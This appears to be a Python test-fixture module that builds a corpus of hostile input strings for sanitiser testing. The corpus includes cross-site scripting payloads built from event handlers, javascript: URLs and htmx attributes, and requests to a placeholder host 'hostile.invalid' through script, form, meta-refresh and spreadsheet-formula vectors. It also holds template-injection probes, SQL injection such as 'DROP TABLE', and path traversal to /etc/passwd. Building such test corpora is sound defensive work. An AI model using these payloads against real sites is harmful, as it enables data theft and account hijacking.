"""Three hundred strings that a customer, a colleague or a platform might try to break a page with.

Each would call ``hit`` in the page, or fetch from a host of its own, if any page took it for more than text.
"""

from itertools import product

CALL = "hit(1)"
HOST = "hostile.invalid"
"""A name that no network resolves; a request to it is a breach."""

_TAGS = (
    "script", "img", "svg", "iframe", "video", "audio", "body", "input", "details", "marquee", "object", "embed",
    "math", "form", "button",
)  # fmt: skip
_EVENTS = (
    "onload", "onerror", "onfocus autofocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter",
)  # fmt: skip
_BREAKS = ("", '"', "'", "`", "</textarea>", "</title>", "</script>", "-->", "]]>", "</style>", '"></option>', "'\">")
"""What a string might have to leave first."""
_WHOLE = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script src=//{HOST}/x.js></script>",
    f"<img src=x onerror={CALL}>",
    f"<img src=//{HOST}/pixel.png>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<a href=javascript:{CALL}>a</a>",
    f"<a href='java\tscript:{CALL}'>a</a>",
    f"<form action=//{HOST}><input type=submit></form>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}'>",
    f"<link rel=stylesheet href=//{HOST}/x.css>",
    f"<base href=//{HOST}/>",
    f"<style>*{{background:url(//{HOST}/css)}}</style>",
    f"<details open ontoggle={CALL}>",
    f"<button hx-get=//{HOST}/ hx-trigger=load>x</button>",
    f"<div hx-on:load={CALL}>x</div>",
    "<div hx-get=/desk/logout hx-trigger=load>x</div>",
    f"<template><img src=x onerror={CALL}></template>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<object data=javascript:{CALL}>",
    f"<embed src=//{HOST}/x.swf>",
)
_WORDS = (
    "{{ 7*7 }}", "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}", "${7*7}", "#{7*7}", "{name}",
    "{0.__class__}", "%s%n%x", "'; DROP TABLE messages; --", '" OR 1=1 --', "\\", "\\u0000", "&lt;script&gt;",
    "&#x3c;script&#x3e;", "%3Cscript%3E", "\u202etxet desrever", "\u200b\u200b", "\ufeff", "a\u0301" * 40,
    "🏴\U000e0067\U000e0062\U000e007f", "﷽" * 5, f'=HYPERLINK("//{HOST}")', "@SUM(1)", "+1", "-1", "../../etc/passwd",
    "C:\\con\\con", "null", "undefined", "NaN", "true", "[object Object]", "__proto__", "constructor",
    f"data:text/html,<script>{CALL}</script>", f"javascript:{CALL}", f"//{HOST}", f"http://{HOST}/?q=1",
    f"mailto:x@{HOST}", "长" * 200, "a" * 300, "\n\n\n", "\t", "\u3000", "<", ">", '"', "'", "&", "</", "<!--", "-->",
    "<![CDATA[", "]]>",
)  # fmt: skip


def _handlers() -> list[str]:
    return [f"<{tag} {event}={CALL} src=x>" for tag, event in product(_TAGS, _EVENTS)]


def _broken_out() -> list[str]:
    return [f"{first}{whole}" for first, whole in product(_BREAKS[1:], _WHOLE[:11])]


CORPUS: tuple[str, ...] = tuple(dict.fromkeys((*_WHOLE, *_WORDS, *_handlers(), *_broken_out())))
"""All of them; NUL and lone surrogates are the parsers' business and tested there."""
